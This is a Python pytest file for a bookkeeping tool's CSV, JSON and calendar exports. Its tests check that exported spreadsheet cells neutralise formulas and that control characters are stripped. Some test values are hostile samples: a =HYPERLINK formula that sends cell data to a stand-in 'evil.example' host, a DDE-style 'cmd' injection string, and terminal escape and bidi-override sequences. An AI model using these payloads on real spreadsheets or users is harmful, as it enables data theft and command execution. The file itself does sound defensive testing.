"""Exports: every kind as CSV and JSON in the importer's vocabulary, MRR history, the calendar."""

from __future__ import annotations

import csv
import io
import json
import stat
import unicodedata
from datetime import date, timedelta

import pytest
from icalendar import Calendar
from sqlalchemy import func, select

from bookkeeper_tui.cli import main
from bookkeeper_tui.core.kpi import mrr_on
from bookkeeper_tui.core.revenue import Sub, levels_from_subscriptions, mrr_from_subscriptions
from bookkeeper_tui.io.calendar import build_calendar, clean_text, write_ics
from bookkeeper_tui.io.export import export_rows, write_export
from bookkeeper_tui.io.fields import KINDS, field_names
from bookkeeper_tui.store.book import Book, BookError
from bookkeeper_tui.store.models import (
    Account,
    Contact,
    Interaction,
    MrrLevel,
    Score,
    Subscription,
    Ticket,
    Touchpoint,
    UsageEvent,
)
from bookkeeper_tui.store.state import effective_due
from tests.conftest import TODAY

pytestmark = pytest.mark.both_backends

#: Greek, a bidi override, emoji, Hebrew, Arabic and a terminal escape with a bell.
EVIL = (
    "Ωmega \u202eevil\u202c 😀 \u05e9\u05dc\u05d5\u05dd "
    "\u0645\u0631\u062d\u0628\u0627 \x1b[31mred\x07"
)


def _csv(book, kind: str) -> tuple[list[str], list[dict[str, str]]]:
    out = io.StringIO()
    write_export(book, kind, "csv", out)
    reader = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    return list(reader.fieldnames or []), list(reader)


def _json(book, kind: str) -> list[dict]:
    out = io.StringIO()
    write_export(book, kind, "json", out)
    return json.loads(out.getvalue())


@pytest.fixture
def rich_book(demo_book):
    """The demo book plus what the demo does not have: subscriptions, tickets, usage, notes."""
    b = demo_book
    with b.write() as s:
        accs = list(s.execute(select(Account).order_by(Account.id)).scalars())
        billed, other, plain = accs[0], accs[1], accs[2]
        # Customers since their first subscription (as an import of them would make them).
        billed.start = date(2025, 1, 1)
        other.start = min(other.start, date(2025, 2, 1))
        subs = [
            Subscription(
                account_id=billed.id,
                external_id="sub-1",
                start=date(2025, 1, 1),
                end=date(2025, 7, 1),
                mrr=1000.0,
            ),
            Subscription(
                account_id=billed.id, external_id="sub-2", start=date(2025, 7, 1), mrr=1250.5
            ),
            Subscription(
                account_id=billed.id,
                external_id="sub-trial",
                start=date(2025, 3, 1),
                end=date(2025, 4, 1),
                mrr=500.0,
                trial=True,
            ),
            Subscription(account_id=other.id, start=date(2025, 2, 1), mrr=300.0),
            Subscription(
                account_id=other.id,
                external_id="sub-4",
                start=date(2025, 5, 15),
                end=date(2026, 6, 1),
                mrr=200.0,
            ),
        ]
        s.add_all(subs)
        s.flush()
        s.add_all(
            [
                Ticket(
                    account_id=billed.id,
                    external_id="T-1",
                    opened=date(2026, 11, 1),
                    closed=date(2026, 11, 3),
                    priority="high",
                    csat=5,
                ),
                Ticket(account_id=other.id, opened=date(2026, 11, 10)),
                UsageEvent(
                    account_id=billed.id,
                    subscription_id=subs[1].id,
                    external_id="U-1",
                    day=date(2026, 11, 2),
                    count=42,
                ),
                UsageEvent(account_id=plain.id, day=date(2026, 11, 3), count=7.25),
                Interaction(
                    account_id=plain.id,
                    kind="call",
                    day=date(2026, 11, 20),
                    summary='said "maybe", then, no',
                    notes="line one\nline two\r\nthree, with comma",
                    external_id="I-1",
                ),
            ]
        )
        # A ticket's CSAT is also a csat score, as the importer stores it.
        anon = Ticket(account_id=plain.id, opened=date(2026, 10, 1), csat=2.0)
        s.add(anon)
        s.flush()
        s.add_all(
            [
                Score(
                    account_id=billed.id,
                    kind="csat",
                    value=5,
                    day=date(2026, 11, 3),
                    external_id="ticket:T-1",
                ),
                Score(
                    account_id=plain.id,
                    kind="csat",
                    value=2.0,
                    day=date(2026, 10, 1),
                    external_id=f"ticket#{anon.id}",
                ),
            ]
        )
        c = s.execute(select(Contact).where(Contact.account_id == plain.id)).scalars().first()
        c.email = "dana@example.com"
        b.rederive_levels(s, [billed.id, other.id])
    return b


def _count(book, model, *where) -> int:
    with book.read() as s:
        return s.execute(select(func.count()).select_from(model).where(*where)).scalar_one()


def _expected_rows(book, kind: str) -> int:
    with book.read() as s:
        with_subs = set(s.execute(select(Subscription.account_id).distinct()).scalars())
        levels = [
            aid for aid in s.execute(select(MrrLevel.account_id)).scalars() if aid not in with_subs
        ]
    return {
        "accounts": _count(book, Account),
        "contacts": _count(book, Contact),
        "subscriptions": _count(book, Subscription) + len(levels),
        "interactions": _count(book, Interaction),
        # A ticket's CSAT is exported once, with the ticket, not again as a score.
        "scores": _count(book, Score) - _count(book, Score, Score.external_id.like("ticket%")),
        "tickets": _count(book, Ticket),
        "usage": _count(book, UsageEvent),
    }[kind]


# -- every kind, both formats -------------------------------------------------------------
@pytest.mark.parametrize("kind", list(KINDS))
def test_every_kind_exports_csv_and_json_with_the_field_names(rich_book, kind):
    expected = _expected_rows(rich_book, kind)
    assert expected > 0
    header, rows = _csv(rich_book, kind)
    assert header == field_names(kind)
    assert len(rows) == expected
    objs = _json(rich_book, kind)
    assert len(objs) == expected
    assert all(list(o) == field_names(kind) for o in objs)
    # The two formats say the same thing.
    as_text = [{k: "" if v is None else v for k, v in o.items()} for o in objs]
    for o, r in zip(as_text, rows, strict=True):
        for k in header:
            v = o[k]
            if isinstance(v, bool):
                v = "true" if v else "false"
            assert str(v) == r[k], (kind, k)
    # export_rows (for the TUI) gives the same rows.
    h, listed = export_rows(rich_book, kind)
    assert h == header and len(listed) == expected


def test_demo_book_counts(demo_book):
    assert len(_csv(demo_book, "accounts")[1]) == 40
    assert _json(demo_book, "tickets") == []
    out = io.StringIO()
    write_export(demo_book, "usage", "csv", out)
    assert out.getvalue() == ",".join(field_names("usage")) + "\n"


def test_order_is_account_name_then_date_then_id(rich_book):
    _, rows = export_rows(rich_book, "interactions")
    names = {
        r["external_id"] or r["name"]: r["name"] for r in export_rows(rich_book, "accounts")[1]
    }
    keys = [(names[r["account"]].casefold(), r["date"]) for r in rows]
    assert keys == sorted(keys)
    first = _csv(rich_book, "scores")[1]
    assert first == _csv(rich_book, "scores")[1]  # deterministic


def test_values_are_iso_dates_booleans_blanks_and_plain_numbers(rich_book):
    _, accounts = _csv(rich_book, "accounts")
    acc = accounts[0]
    date.fromisoformat(acc["start"])
    assert acc["mrr"] == ""  # MRR is history: the subscriptions export carries it
    assert acc["external_id"].startswith("DEMO-")
    _, subs = _csv(rich_book, "subscriptions")
    by_id = {r["external_id"]: r for r in subs}
    assert by_id["sub-1"] == {
        "account": "DEMO-00001",
        "start": "2025-01-01",
        "mrr": "1000",
        "end": "2025-07-01",
        "external_id": "sub-1",
        "trial": "false",
    }
    assert by_id["sub-2"]["mrr"] == "1250.5" and by_id["sub-2"]["end"] == ""
    assert by_id["sub-trial"]["trial"] == "true"
    assert by_id[""]["account"] == "DEMO-00002"  # no external id: left blank
    _, tickets = _csv(rich_book, "tickets")
    t1 = next(t for t in tickets if t["external_id"] == "T-1")
    assert (t1["opened"], t1["closed"], t1["priority"], t1["csat"]) == (
        "2026-11-01",
        "2026-11-03",
        "high",
        "5",
    )
    other = next(t for t in tickets if t["external_id"] == "" and t["account"] == "DEMO-00002")
    assert other["closed"] == other["priority"] == other["csat"] == ""
    _, usage = _csv(rich_book, "usage")
    assert {(u["subscription"], u["count"]) for u in usage} == {("sub-2", "42"), ("", "7.25")}
    js = {o["external_id"]: o for o in _json(rich_book, "subscriptions")}
    assert js["sub-trial"]["trial"] is True and js["sub-2"]["end"] is None
    assert js["sub-1"]["mrr"] == 1000 and js["sub-2"]["mrr"] == 1250.5


def test_interactions_keep_notes_and_contacts(rich_book):
    _, rows = _csv(rich_book, "interactions")
    it = next(r for r in rows if r["external_id"] == "I-1")
    assert it["notes"] == "line one\nline two\r\nthree, with comma"
    assert it["summary"] == 'said "maybe", then, no'
    assert it["kind"] == "call" and it["date"] == "2026-11-20"
    with_contact = [r for r in rows if r["contact"]]
    assert with_contact
    _, contacts = _csv(rich_book, "contacts")
    names = {(c["account"], c["name"]) for c in contacts}
    assert all((r["account"], r["contact"]) in names for r in with_contact)
    assert any(c["email"] == "dana@example.com" for c in contacts)


def test_a_tickets_csat_is_exported_once_with_the_ticket(rich_book):
    _, scores = export_rows(rich_book, "scores")
    assert not [r for r in scores if (r["external_id"] or "").startswith("ticket")]
    _, tickets = export_rows(rich_book, "tickets")
    assert sorted(t["csat"] for t in tickets if t["csat"] is not None) == [2.0, 5.0]


def test_scores_name_their_contact_and_every_kind(book):
    acc = book.add_account("Solo", "smb", date(2026, 1, 1), mrr=100)
    with book.write() as s:
        c = Contact(account_id=acc.id, name="Dana Lee", name_key="dana lee", role="champion")
        s.add(c)
        s.flush()
        for i, kind in enumerate(("nps", "csat", "ces", "usage", "tickets", "health")):
            s.add(
                Score(
                    account_id=acc.id,
                    contact_id=c.id if kind in ("nps", "csat") else None,
                    kind=kind,
                    value=float(i) + 0.5,
                    day=date(2026, 2, 1 + i),
                )
            )
    _, rows = export_rows(book, "scores")
    assert [r["kind"] for r in rows] == ["nps", "csat", "ces", "usage", "tickets", "health"]
    assert rows[0]["contact"] == "Dana Lee" and rows[2]["contact"] is None
    assert rows[0]["account"] == "Solo"  # no external id: the name


# -- MRR history ----------------------------------------------------------------------------
def _mrr_from_export(rows: list[dict[str, str]]) -> dict[str, list[Sub]]:
    subs: dict[str, list[Sub]] = {}
    for r in rows:
        subs.setdefault(r["account"], []).append(
            Sub(
                date.fromisoformat(r["start"]),
                date.fromisoformat(r["end"]) if r["end"] else None,
                float(r["mrr"]),
                r["trial"] == "true",
            )
        )
    return subs


def test_subscriptions_export_reproduces_mrr_on_every_day(rich_book):
    _, rows = _csv(rich_book, "subscriptions")
    exported = _mrr_from_export(rows)
    with rich_book.read() as s:
        keys = {a.id: a.external_id or a.name for a in s.execute(select(Account)).scalars()}
        levels: dict[int, list[tuple[date, float]]] = {}
        for aid, eff, mrr in s.execute(
            select(MrrLevel.account_id, MrrLevel.effective, MrrLevel.mrr)
        ):
            levels.setdefault(aid, []).append((eff, mrr))
    assert set(exported) == {keys[aid] for aid in levels}
    # Whole book on a handful of days, against what the book itself says.
    days = [TODAY - timedelta(days=n) for n in (0, 45, 200, 400, 700)] + [date(2025, 3, 15)]
    for day in days:
        states = rich_book.states(day)
        for aid, st in states.items():
            subs = exported.get(keys[aid], [])
            assert mrr_from_subscriptions(subs, day) == pytest.approx(st.mrr), (keys[aid], day)
            assert mrr_on(levels_from_subscriptions(subs), day) == pytest.approx(st.mrr)
    # Every account around every change (the level's day and the day before).
    for aid, lv in levels.items():
        subs = exported[keys[aid]]
        for eff, _ in lv:
            for day in (eff - timedelta(days=1), eff, eff + timedelta(days=1)):
                assert mrr_from_subscriptions(subs, day) == pytest.approx(mrr_on(lv, day))


def test_manual_levels_become_synthetic_subscriptions(book):
    acc = book.add_account("Acme", "smb", date(2026, 1, 1), mrr=100, external_id="A-1")
    book.log("acme call mrr 150 @2026-03-01", date(2026, 3, 1))
    book.log("acme call mrr 0 @2026-06-01", date(2026, 6, 1))
    _, rows = _csv(book, "subscriptions")
    assert rows == [
        {
            "account": "A-1",
            "start": "2026-01-01",
            "mrr": "100",
            "end": "2026-03-01",
            "external_id": "mrr:A-1:2026-01-01",
            "trial": "false",
        },
        {
            "account": "A-1",
            "start": "2026-03-01",
            "mrr": "150",
            "end": "2026-06-01",
            "external_id": "mrr:A-1:2026-03-01",
            "trial": "false",
        },
        {
            "account": "A-1",
            "start": "2026-06-01",
            "mrr": "0",
            "end": "",
            "external_id": "mrr:A-1:2026-06-01",
            "trial": "false",
        },
    ]
    with book.read() as s:
        lv = [(e, m) for e, m in s.execute(select(MrrLevel.effective, MrrLevel.mrr))]
    assert levels_from_subscriptions(_mrr_from_export(rows)["A-1"]) == sorted(lv)
    assert acc.id is not None


# -- the calendar -----------------------------------------------------------------------------
def _open_touchpoints(book) -> dict[int, date]:
    with book.read() as s:
        return {
            tp.id: effective_due(tp)
            for tp in s.execute(
                select(Touchpoint)
                .join(Account, Account.id == Touchpoint.account_id)
                .where(Account.status == "active")
                .where(Touchpoint.status.in_(("open", "snoozed")))
            ).scalars()
        }


def test_ics_has_one_event_per_open_touchpoint(demo_book):
    with demo_book.read() as s:
        tp = (
            s.execute(select(Touchpoint).where(Touchpoint.status == "open").order_by(Touchpoint.id))
            .scalars()
            .first()
        )
    demo_book.snooze(tp.id, TODAY + timedelta(days=9))
    expected = _open_touchpoints(demo_book)
    assert expected[tp.id] == TODAY + timedelta(days=9)
    out = io.StringIO()
    n = write_ics(demo_book, out, as_of=TODAY)
    cal = Calendar.from_ical(out.getvalue())
    assert str(cal["X-WR-CALNAME"]) == "Bookkeeper"
    assert str(cal["VERSION"]) == "2.0" and "Bookkeeper" in str(cal["PRODID"])
    events = list(cal.walk("VEVENT"))
    assert n == len(events) == len(expected) > 0
    got = {str(ev["UID"]): ev.decoded("DTSTART") for ev in events}
    assert got == {f"touchpoint-{i}@bookkeeper": d for i, d in expected.items()}
    for ev in events:
        start, end = ev.decoded("DTSTART"), ev.decoded("DTEND")
        assert type(start) is date and end == start + timedelta(days=1)  # all-day
        assert " · " in str(ev["SUMMARY"])
        assert "Tier: " in str(ev["DESCRIPTION"]) and "Health: " in str(ev["DESCRIPTION"])


def test_ics_summary_and_description(book):
    book.add_account("Acme, Inc; \\ the best", "enterprise", date(2026, 1, 1), mrr=9000)
    with book.write() as s:
        aid = s.execute(select(Account.id)).scalar_one()
        s.add(Touchpoint(account_id=aid, kind="check_in", due=TODAY, note="bring the deck"))
    cal = build_calendar(book, TODAY)
    (ev,) = [e for e in cal.walk("VEVENT") if "check in" in str(e["SUMMARY"])]
    assert str(ev["SUMMARY"]) == "check in · Acme, Inc; \\ the best"
    text = str(ev["DESCRIPTION"]).split("\n")
    assert text[0] == "bring the deck" and text[1] == "Tier: enterprise"
    assert text[2].startswith("Health: ")
    reparsed = Calendar.from_ical(cal.to_ical())
    assert {str(e["SUMMARY"]) for e in reparsed.walk("VEVENT")} >= {str(ev["SUMMARY"])}


def test_unsafe_text_is_lossless_in_csv_json_and_clean_in_ics(book, backend):
    acc = book.add_account(EVIL, "smb", date(2026, 1, 1), mrr=10)
    note = "first\nsecond\r\nthird\x00\x1b]0;pwned\x07 \u2028end\u202e!"
    with book.write() as s:
        s.add(Touchpoint(account_id=acc.id, kind="renewal_prep", due=TODAY, note=note))
        s.add(
            Interaction(account_id=acc.id, day=TODAY, summary=EVIL, notes=note.replace("\x00", ""))
        )
    _, rows = _csv(book, "interactions")
    assert rows[0]["account"] == acc.name == " ".join(EVIL.split())
    assert rows[0]["summary"] == EVIL and rows[0]["notes"] == note.replace("\x00", "")
    assert _json(book, "interactions")[0]["notes"] == note.replace("\x00", "")
    raw = io.StringIO()
    write_ics(book, raw, as_of=TODAY)
    cal = Calendar.from_ical(raw.getvalue())
    ev = next(e for e in cal.walk("VEVENT") if "renewal prep" in str(e["SUMMARY"]))
    summary, description = str(ev["SUMMARY"]), str(ev["DESCRIPTION"])
    for text in (summary, description):
        bad = [
            c
            for c in text
            if c != "\n" and (unicodedata.category(c) == "Cc" or c in "\u202e\u202c\u2028")
        ]
        assert bad == []
    assert "\n" not in summary
    assert "😀" in summary and "\u05e9\u05dc\u05d5\u05dd" in summary and "Ωmega" in summary
    # PostgreSQL text cannot hold NUL: it is kept as U+FFFD (store/pg.py).
    nul = "\ufffd" if backend == "postgresql" else ""
    assert description.startswith(f"first\nsecond\nthird{nul}]0;pwned\nend!")
    # The file itself: CRLF line ends only, no raw control characters.
    body = raw.getvalue().replace("\r\n", "")
    assert not [c for c in body if unicodedata.category(c) == "Cc"]


def test_clean_text():
    assert clean_text("a\tb\x00c\x1b[0m") == "a bc[0m"
    assert clean_text("one\r\ntwo\u2028three", multiline=True) == "one\ntwo\nthree"
    assert clean_text("one\ntwo") == "one two"
    assert clean_text("\u202eabc\u2066") == "abc"
    assert clean_text("👩\u200d💻 مرحبا") == "👩\u200d💻 مرحبا"
    assert clean_text(None) == ""


def test_unknown_kind_is_a_book_error(book):
    with pytest.raises(BookError):
        export_rows(book, "touchpoints")
    with pytest.raises(BookError):
        write_export(book, "accounts", "xml", io.StringIO())


# -- command line ---------------------------------------------------------------------------
def test_cli_export_to_a_file(cli, book, tmp_path):
    book.add_account("Acme", "smb", date(2026, 1, 1), mrr=100)
    path = tmp_path / "accounts.csv"
    r = cli("export", "accounts", "-o", str(path))
    assert r.code == 0, r.err
    assert str(path) in r.out and "1 rows" in r.out
    lines = path.read_text(encoding="utf-8").splitlines()
    assert lines[0] == ",".join(field_names("accounts"))
    assert lines[1].startswith("Acme,,smb,2026-01-01,")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert not list(tmp_path.glob(".accounts.csv.*"))  # no temporary left behind
    # -o replaces an earlier export whole.
    r = cli("export", "accounts", "--format", "json", "-o", str(path))
    assert r.code == 0 and json.loads(path.read_text())[0]["name"] == "Acme"


def test_cli_export_to_stdout(cli, book):
    book.add_account("Acme", "smb", date(2026, 1, 1), mrr=100)
    r = cli("export", "subscriptions")
    assert r.code == 0, r.err
    assert r.out.splitlines()[0] == ",".join(field_names("subscriptions"))
    assert "mrr:Acme:2026-01-01" in r.out
    r = cli("export", "contacts", "--format", "json")
    assert r.code == 0 and r.json() == []


def test_cli_export_ics(cli, book, tmp_path):
    book.add_account("Acme", "enterprise", date.today() - timedelta(days=10), mrr=9000)
    path = tmp_path / "due.ics"
    r = cli("export", "ics", "-o", str(path))
    assert r.code == 0, r.err
    cal = Calendar.from_ical(path.read_bytes())
    assert len(list(cal.walk("VEVENT"))) >= 1  # onboarding from the playbook
    assert cli("export", "ics", "--format", "json").code == 2


@pytest.mark.parametrize(
    "args",
    [
        ("export", "touchpoints"),
        ("export", "accounts", "--format", "xml"),
        ("export",),
    ],
)
def test_cli_export_bad_usage_exits_2(cli, args):
    r = cli(*args)
    assert r.code == 2
    assert "Traceback" not in r.err and r.err.startswith("bookkeeper: ")


def test_cli_export_to_a_missing_folder_exits_2(cli, tmp_path):
    r = cli("export", "accounts", "-o", str(tmp_path / "nope" / "a.csv"))
    assert r.code == 2 and "does not exist" in r.err
    r = cli("export", "accounts", "-o", str(tmp_path))
    assert r.code == 2 and "folder" in r.err


def test_cli_export_on_a_damaged_book_exits_1(tmp_path, capsys):
    bad = tmp_path / "bad.db"
    bad.write_bytes(b"this is not a database" * 100)
    assert main(["export", "accounts", "--db", str(bad)]) == 1
    assert "Traceback" not in capsys.readouterr().err


# -- round trip through the importer ---------------------------------------------------------
IMPORT_ORDER = (
    "accounts",
    "contacts",
    "subscriptions",
    "interactions",
    "scores",
    "tickets",
    "usage",
)


def test_every_kind_round_trips_through_the_importer(rich_book, book, tmp_path):
    importer = pytest.importorskip("bookkeeper_tui.io.importer")
    assert list(IMPORT_ORDER) == sorted(KINDS, key=IMPORT_ORDER.index)
    files = {}
    for kind in IMPORT_ORDER:
        files[kind] = tmp_path / f"{kind}.csv"
        with files[kind].open("w", encoding="utf-8", newline="") as out:
            write_export(rich_book, kind, "csv", out)
    for kind in IMPORT_ORDER:
        report = importer.import_file(book, kind, files[kind], today=TODAY)
        assert report.written and not report.rejected, (kind, report.rejected[:3])
    # Same accounts, tiers and details.
    _, before = export_rows(rich_book, "accounts")
    _, after = export_rows(book, "accounts")
    assert after == before
    # Same number of records of every kind (and the same rows, export for export).
    for kind in IMPORT_ORDER:
        assert export_rows(book, kind)[1] == export_rows(rich_book, kind)[1], kind
    for model in (Contact, Interaction, Score, Ticket, UsageEvent):  # ticket CSATs included
        assert _count(book, model) == _count(rich_book, model)
    # The same MRR for every account on every day that matters.
    with rich_book.read() as s:
        days = sorted(set(s.execute(select(MrrLevel.effective)).scalars()))
    days = [*days[:: max(1, len(days) // 25)], TODAY, TODAY - timedelta(days=400)]
    for day in days:
        want = {st.account.name: st.mrr for st in rich_book.states(day).values()}
        got = {st.account.name: st.mrr for st in book.states(day).values()}
        assert got == pytest.approx(want), day
    assert {st.account.name: st.account.status for st in book.states(TODAY).values()} == {
        st.account.name: st.account.status for st in rich_book.states(TODAY).values()
    }
    # Importing the same files again changes nothing.
    for kind in IMPORT_ORDER:
        again = importer.import_file(book, kind, files[kind], today=TODAY)
        assert (again.created, again.updated) == (0, 0), kind


# -- spreadsheet formulas (issue 13, point 7) -------------------------------------------------
FORMULA_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA_NAME, "'" + FORMULA_NAME),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("'=already quoted", "''=already quoted"),
        ("'plain quote", "'plain quote"),
        ("Acme = Corp", "Acme = Corp"),
        ("", ""),
        # numbers, dates and booleans are not text: never touched
        (-120.0, "-120"),
        (-0.5, "-0.5"),
        (date(2026, 1, 1), "2026-01-01"),
        (True, "true"),
        (None, ""),
    ],
)
def test_csv_cells_neutralise_formulas_but_not_numbers(value, written):
    from bookkeeper_tui.core.text import unneutralise_formula
    from bookkeeper_tui.io.export import csv_value

    assert csv_value(value) == written
    if isinstance(value, str):
        assert csv_value(value, raw=True) == value
        assert unneutralise_formula(written) == value  # what the importer reads back
    else:
        assert csv_value(value, raw=True) == written


def _formula_book(book):
    """Accounts whose text would run as formulas in a spreadsheet; one has no external id,
    so other kinds point at it by its name."""
    book.add_account(FORMULA_NAME, "smb", date(2026, 1, 1), mrr=100, owner="+maya")
    book.add_account(
        "@Globex", "enterprise", date(2025, 6, 1), mrr=900, external_id="-42", industry="-"
    )
    book.add_account("'=quoted", "smb", date(2026, 2, 1), mrr=50, source="=1+1")
    book.log(f"{FORMULA_NAME[:10]} call with =Ann \"=cmd|' /C calc'!A0\"", TODAY)
    return book


def test_csv_export_neutralises_formulas_by_default(book):
    _formula_book(book)
    _, rows = _csv(book, "accounts")
    by_name = {r["name"]: r for r in rows}
    assert set(by_name) == {"'" + FORMULA_NAME, "'@Globex", "''=quoted"}
    assert by_name["'" + FORMULA_NAME]["owner"] == "'+maya"
    assert by_name["'@Globex"]["external_id"] == "'-42"
    assert by_name["'@Globex"]["industry"] == "'-"
    assert by_name["''=quoted"]["source"] == "'=1+1"
    _, rows = _csv(book, "interactions")
    assert rows[0]["account"] == "'" + FORMULA_NAME
    assert rows[0]["contact"] == "'=Ann"
    assert rows[0]["summary"] == "'=cmd|' /C calc'!A0"
    _, subs = _csv(book, "subscriptions")
    assert {s["mrr"] for s in subs} == {"100", "900", "50"}  # numbers stay numbers
    # JSON is not a spreadsheet format: its values are exactly as stored.
    assert {r["name"] for r in _json(book, "accounts")} == {FORMULA_NAME, "@Globex", "'=quoted"}


def test_neutralised_export_round_trips_through_the_importer(book, tmp_path, backend):
    from bookkeeper_tui.io.importer import import_file

    _formula_book(book)
    other = Book.open(str(tmp_path / "other.db"))
    try:
        for kind in IMPORT_ORDER:
            path = tmp_path / f"{kind}.csv"
            with path.open("w", encoding="utf-8", newline="") as out:
                write_export(book, kind, "csv", out)
            report = import_file(other, kind, path, today=TODAY)
            assert not report.rejected, (kind, report.rejected[:3])
        for kind in IMPORT_ORDER:
            assert export_rows(other, kind)[1] == export_rows(book, kind)[1], kind
    finally:
        other.close()


def test_cli_export_raw_keeps_formulas_as_they_are(cli, book, tmp_path):
    _formula_book(book)
    r = cli("export", "accounts")
    assert r.code == 0, r.err
    names = {row["name"] for row in csv.DictReader(io.StringIO(r.out))}
    assert names == {"'" + FORMULA_NAME, "'@Globex", "''=quoted"}
    path = tmp_path / "raw.csv"
    r = cli("export", "accounts", "--raw", "-o", str(path))
    assert r.code == 0, r.err
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert {row["name"] for row in rows} == {FORMULA_NAME, "@Globex", "'=quoted"}
    assert {row["owner"] for row in rows} == {"+maya", ""}
    # --raw is about CSV cells: JSON and the calendar are the same with it or without.
    assert cli("export", "accounts", "--format", "json", "--raw").json() == (
        cli("export", "accounts", "--format", "json").json()
    )
